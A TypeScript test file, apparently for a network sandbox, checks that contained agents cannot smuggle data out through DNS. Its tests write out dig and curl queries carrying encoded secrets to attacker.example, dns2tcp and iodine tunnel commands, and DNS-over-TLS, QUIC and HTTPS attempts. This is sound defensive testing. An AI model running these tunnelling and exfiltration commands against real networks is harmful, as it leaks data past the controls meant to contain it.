/** Ways out through DNS: tunnels, other servers, and DNS inside other protocols. Each works where nothing contains it. */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { formatAddress } from '@cofferdam/net';
import { type Arrival, type Lab, startLab } from '@cofferdam/testkit/lab';
import { agentPolicy } from './agent-policy.ts';
import {
  arrivedSince,
  assertDenied,
  attacksUnavailable,
  attemptInside,
  attemptOutside,
  brief,
  contained,
  denials,
  isFlow,
  lastRecords,
  ordinaryUser,
} from './attempts.ts';
import { type ContainedRun, startContained } from './contained.ts';
import { assertWithinBudget } from './dns-budget.ts';
import { dnsQuestion, framed, replyHead } from './dns-question.ts';

const skip = attacksUnavailable(['dig', 'curl', 'iodine', 'dns2tcpc', 'openssl', 'pgrep', 'nc']);

describe('ways out through DNS', { skip }, () => {
  let lab: Lab;
  before(async () => {
    lab = await startLab();
  });
  after(() => lab?.stop());

  const gateway = '198.18.0.1';
  const without = agentPolicy({ web: { named: ['example.com'] }, rules: ['web: [named], protocol: tcp'] });
  const wildcard = agentPolicy({
    web: { named: ['**.attacker.example'], exact: ['example.com'], other: ['*.registry.example'] },
    rules: ['web: [named], protocol: any', 'web: [exact, other], protocol: tcp'],
  });

  /** Questions of ours that left: behind the resolver the tunnel's server may still be asked again about older ones. */
  const queries = async (since: number): Promise<readonly (Arrival & { kind: 'query' })[]> =>
    (await lab.arrivals({ since, server: 'resolver' })).filter((arrival) => arrival.kind === 'query');

  describe('tunnels', () => {
    test('a denied name is not asked for, whatever the way it is asked', async () => {
      const name = 'c2VjcmV0.attacker.example';
      const control = await lab.mark();
      await lab.exec('host', ['dig', '+short', name]);
      assert.deepEqual(brief(await arrivedSince(lab, control)), [`resolver:53 query ${name.toLowerCase()} A`]);
      const since = await lab.mark();
      const { stdout, records } = await contained(lab, without, [
        'sh',
        '-c',
        `for type in A AAAA TXT CNAME MX NULL HTTPS; do dig +short ${name} $type; dig +short +tcp ${name} $type; done
         getent ahosts ${name}; curl -sS http://${name}/; ping -c 1 -W 1 ${name}; python3 -c "import socket; socket.gethostbyname('${name}')"`,
      ]);
      assert.equal(stdout, '');
      assert.ok(records.length >= 16);
      assert.deepEqual([...new Set(denials(records))].sort(), ['dns-not-permitted', 'dns-type']);
      assert.deepEqual(brief(await arrivedSince(lab, since)), []);
    });

    /** dns2tcp to an echo server, through the resolver; what came back. */
    const dns2tcp = (resolver: string): readonly string[] => {
      const { zone, key, resource } = lab.tunnels.dns2tcp;
      const tunnel = `dns2tcpc -z ${zone} -k ${key} -r ${resource} -l 8053 ${resolver}`;
      const use = '(echo through; sleep 2) | timeout 6 nc -N 127.0.0.1 8053';
      return ['sh', '-c', `${tunnel} & tunnel=$!; sleep 0.5; ${use}; ${use}; kill $tunnel`];
    };

    test('dns2tcp: its names have characters that no name has, so that even a permitted suffix lets none of them out', async () => {
      const since = await lab.mark();
      for (const policy of [without, wildcard]) {
        const { stdout, records } = await contained(lab, policy, dns2tcp(gateway));
        assert.doesNotMatch(stdout, /through/);
        assert.deepEqual([...new Set(denials(records))], ['dns-not-permitted']);
      }
      assert.deepEqual(brief(await arrivedSince(lab, since)), []);
      const outside = await lab.exec('host', dns2tcp(lab.resolver4));
      assert.match(outside.stdout, /through/, outside.stderr);
      // It goes on asking the tunnel's server for a while.
      await lab.stopServer('resolver');
      await lab.startServer('resolver');
    });

    /** Runs as root in the network of a contained command: more than that command itself could do. */
    const besideCommand = async (
      policy: string,
      attack: (nsenter: readonly string[], run: ContainedRun) => Promise<void>,
    ) => {
      const seconds = String(100 + Math.floor(Math.random() * 1e6));
      const run = await startContained(lab, { policy, command: ['sleep', seconds], user: ordinaryUser });
      const find = async (): Promise<string> => {
        for (let turn = 0; turn < 100; turn++) {
          const { stdout } = await lab.exec('host', ['pgrep', '-x', '-f', `sleep ${seconds}`]);
          if (stdout !== '') return stdout.trim().split('\n')[0]!;
          await new Promise((resolve) => setTimeout(resolve, 50));
        }
        throw new Error(`the run did not start: ${run.stderr()}`);
      };
      const pid = await find();
      try {
        await attack(['nsenter', '--target', pid, '--net'], run);
      } finally {
        await lab.exec('host', ['kill', '-9', pid]);
        await run.ended;
      }
    };
    const iodine = (resolver: string): readonly string[] => {
      const { password, zone } = lab.tunnels.iodine;
      return ['iodine', '-f', '-P', password, '-T', 'TXT', '-d', 'dns0', resolver, zone];
    };

    test('iodine, denied', async () => {
      const since = await lab.mark();
      await besideCommand(without, async (enter, run) => {
        const tunnel = lab.spawn('host', ['timeout', '8', ...enter, ...iodine(gateway)]);
        assert.notEqual((await tunnel.ended).code, 0);
        assert.ok(denials(await run.records()).includes('dns-not-permitted'));
      });
      assert.deepEqual(brief(await arrivedSince(lab, since)), []);
      const outside = lab.spawn('host', iodine(lab.resolver4));
      await outside.waitFor(/Connection setup complete/, 20_000);
      const ping = await lab.exec('host', ['ping', '-c', '1', '-W', '5', '10.53.0.1']);
      await outside.kill();
      await outside.ended;
      assert.equal(ping.code, 0, ping.stdout);
    });

    test('iodine, below a permitted suffix', async () => {
      const since = await lab.mark();
      await besideCommand(wildcard, async (enter, run) => {
        const tunnel = lab.spawn('host', ['timeout', '16', ...enter, ...iodine(gateway)]);
        await lab.exec('host', ['timeout', '12', ...enter, 'ping', '-s', '1000', '-i', '0.2', '-c', '40', '10.53.0.1']);
        await tunnel.ended;
        assert.ok(denials(await run.records()).includes('dns-budget'));
      });
      const asked = await queries(since);
      assert.notDeepEqual(asked, [], 'the suffix is permitted');
      assertWithinBudget(asked.map(({ name }) => name));
    });

    test('names made of data: a bounded number of them, and nobody else pays', async () => {
      const since = await lab.mark();
      const digits = 'abcdefghijklmnopqrstuvwxyz234567';
      const label = (seed: number): string =>
        [...createHash('sha256').update(String(seed)).digest()]
          .slice(0, 20)
          .map((octet) => digits[octet & 31])
          .join('');
      const ask = (labels: readonly string[]) =>
        ({ protocol: 'udp', host: gateway, port: 53, send: [dnsQuestion({ labels, edns: 1232 })] }) as const;
      const secrets = Array.from({ length: 240 }, (_, i) => label(i + 1));
      const made = await attemptInside(lab, wildcard, [
        ...secrets.map((secret) => ask([secret, 'attacker', 'example'])),
        ask(['example', 'com']),
        ask(['cdn', 'registry', 'example']),
        ask([secrets[0]!, 'attacker', 'example']),
        ask(['x'.repeat(53), 'attacker', 'example']),
        ask(['a', 'b', 'c', 'another', 'attacker', 'example']),
      ]);
      const codes = made.slice(0, secrets.length).map(({ received }) => replyHead(received)?.rcode);
      const first = codes.indexOf(5);
      assert.ok(first > 50 && first < 240, `refused from the ${first}th on`);
      // A shorter one may still fit what is left.
      assert.ok(codes.slice(-20).every((code) => code === 5));
      assert.match(made[first]!.received, /dns-budget/);
      assert.deepEqual(denials(made[first]!.records), ['dns-budget']);
      const [exact, other, again, long, moreLabels] = made.slice(secrets.length);
      assert.equal(replyHead(exact!.received)?.rcode, 0, 'an exact name costs nothing');
      assert.equal(replyHead(other!.received)?.rcode === 5, false, 'another suffix has a budget of its own');
      assert.equal(replyHead(again!.received)?.rcode, 0, 'a name that was asked for says nothing new');
      assert.deepEqual(
        [long, moreLabels].map((one) => replyHead(one!.received)?.rcode),
        [5, 5],
      );
      assertWithinBudget((await queries(since)).map(({ name }) => name));
    });
  });

  describe('other servers and other protocols', () => {
    const secret = 'ZXhmaWw.attacker.example';
    const servers = ['8.8.8.8', '2001:4860:4860::8888', '45.83.64.10', '2a0e:1d40::10'];

    test('uncontained, all of them get the question', async () => {
      const since = await lab.mark();
      for (const server of servers) {
        await lab.exec('host', ['dig', '+short', `@${server}`, secret]);
        await lab.exec('host', ['dig', '+short', '+tcp', `@${server}`, secret]);
      }
      await attemptOutside(
        lab,
        ...servers.flatMap((host) =>
          (['tcp', 'udp'] as const).map((protocol) => ({ protocol, host, port: 853, send: ['x'], patience: 200 })),
        ),
      );
      const seen = new Set(
        (await arrivedSince(lab, since, ['query', 'datagram', 'bytes'])).map(
          ({ server, local, kind }) => `${server} ${local.address} ${local.port} ${kind}`,
        ),
      );
      for (const server of servers) {
        const key = server === '8.8.8.8' || server.startsWith('2001') ? 'public-dns' : 'attacker';
        for (const what of ['53 query', '853 datagram', '853 bytes'])
          assert.ok(seen.has(`${key} ${server} ${what}`), `${server} ${what}`);
      }
    });

    for (const [rights, policy] of [
      ['no rule of theirs', without],
      [
        'a rule that permits port 53 to anywhere',
        agentPolicy({
          web: { named: ['example.com'] },
          rules: ['web: [named], protocol: tcp', 'to: [anywhere], protocol: any, ports: [53]'],
        }),
      ],
    ] as const) {
      test(`plain DNS to any server is answered here, under ${rights}`, async () => {
        const since = await lab.mark();
        const made = await attemptInside(
          lab,
          policy,
          servers.flatMap((host) =>
            [secret.split('.'), ['example', 'com']].flatMap((labels) => [
              { protocol: 'udp', host, port: 53, send: [dnsQuestion({ labels })] } as const,
              { protocol: 'tcp', host, port: 53, send: [framed(dnsQuestion({ labels }))], patience: 300 } as const,
            ]),
          ),
        );
        for (const [index, { received, records }] of made.entries()) {
          const overTcp = index % 2 === 1;
          const permitted = index % 4 >= 2;
          const reply = replyHead(overTcp ? received.slice(2) : received);
          assert.deepEqual([reply?.rcode, reply?.answers], permitted ? [0, 1] : [5, 0], servers[index >> 2]);
          assert.deepEqual(
            records.map((one) =>
              one.kind === 'dns' ? `${one.reason} ${one.transport} ${formatAddress(one.server.address)}` : one.kind,
            ),
            [`${permitted ? 'dns-answered' : 'dns-not-permitted'} ${overTcp ? 'tcp' : 'udp'} ${servers[index >> 2]}`],
          );
        }
        const arrived = await arrivedSince(lab, since);
        assert.deepEqual(brief(arrived), ['resolver:53 query example.com A']);
      });
    }

    test('DNS over TLS and over QUIC', async () => {
      const since = await lab.mark();
      const made = await attemptInside(
        lab,
        without,
        servers.flatMap((host) => [
          { protocol: 'tcp', host, port: 853, send: ['x'] } as const,
          { protocol: 'udp', host, port: 853, send: ['x'] } as const,
        ]),
      );
      for (const one of made) {
        assert.equal(one.end, 'refused');
        assertDenied(one, 'no-rule');
      }
      const { stdout, records } = await contained(lab, without, ['dig', '+tls', '+short', '@8.8.8.8', secret]);
      assert.match(stdout, /connection refused/);
      assert.deepEqual([...new Set(denials(records))], ['no-rule']);
      assert.deepEqual(brief(await arrivedSince(lab, since)), []);
    });

    test('DNS over HTTPS, by name and by address', async () => {
      const url = (host: string): string => `https://${host}/dns-query?dns=AAABAAABAAAAAAAABnNlY3JldA`;
      const control = await lab.mark();
      await lab.exec('host', ['curl', '-sS', '-o', '/dev/null', url('dns.google')], { env: lab.ca.environment });
      await lab.exec('host', ['curl', '-sSk', '-o', '/dev/null', url('8.8.8.8')]);
      assert.equal((await lab.arrivals({ since: control, server: 'public-dns', kind: 'request' })).length, 2);
      const since = await lab.mark();
      const curl = (...words: readonly string[]) =>
        contained(lab, without, ['curl', '-sSk', '--max-time', '5', ...words]);
      const byName = await curl(url('dns.google'));
      assert.equal(byName.code, 6);
      assert.deepEqual([...new Set(denials(byName.records))], ['dns-not-permitted']);
      for (const host of ['8.8.8.8', '[2001:4860:4860::8888]']) {
        const byAddress = await curl(url(host));
        assert.equal(byAddress.code, 7);
        assertDenied({ records: lastRecords(byAddress.records) }, 'no-rule');
      }
      const resolving = await curl('--doh-url', 'https://8.8.8.8/dns-query', `http://${secret}/`);
      assert.equal(resolving.code, 6);
      assert.ok(resolving.records.filter(isFlow).every(({ verdict }) => verdict === 'deny'));
      const digged = await contained(lab, without, ['dig', '+https', '@8.8.8.8', secret]);
      assert.match(digged.stdout, /connection refused/);
      assert.deepEqual(brief(await arrivedSince(lab, since)), []);
    });

    test('a rule that needs no name gives no name', async () => {
      const since = await lab.mark();
      const policy = agentPolicy({ rules: ['protocol: any'] });
      const { code, records } = await contained(lab, policy, [
        'curl',
        '-sS',
        '--max-time',
        '5',
        'https://example.com/',
      ]);
      assert.equal(code, 6);
      assert.deepEqual([...new Set(denials(records))], ['dns-not-permitted']);
      assert.deepEqual(brief(await arrivedSince(lab, since)), []);
      const direct = await contained(lab, policy, [
        'curl',
        '-sSk',
        '--max-time',
        '5',
        '-o',
        '/dev/null',
        `https://${lab.address('example.com')}/`,
      ]);
      assert.equal(direct.code, 0, 'the rule does permit the address');
    });
  });
});
